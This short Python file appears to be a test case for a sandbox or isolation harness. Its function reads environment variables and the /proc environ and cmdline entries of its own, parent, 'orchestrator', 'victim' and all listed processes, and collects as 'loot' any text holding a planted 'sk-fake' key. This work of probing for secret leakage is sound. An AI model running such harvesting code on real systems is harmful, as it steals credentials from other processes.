# expect: ok
import os

def run(**target):
    seen = list(os.environ.values())
    names = ["self", "thread-self", str(os.getppid()), str(target["orchestrator"]), str(target["victim"]), "1"]
    try:
        names += os.listdir("/proc")
    except OSError:
        pass
    for name in names:
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{name}/{part}", errors="replace") as file:
                    seen.append(file.read())
            except OSError:
                pass
    return {"loot": [text for text in seen if "sk-fake" in text], "seen": "".join(seen)[:100_000]}
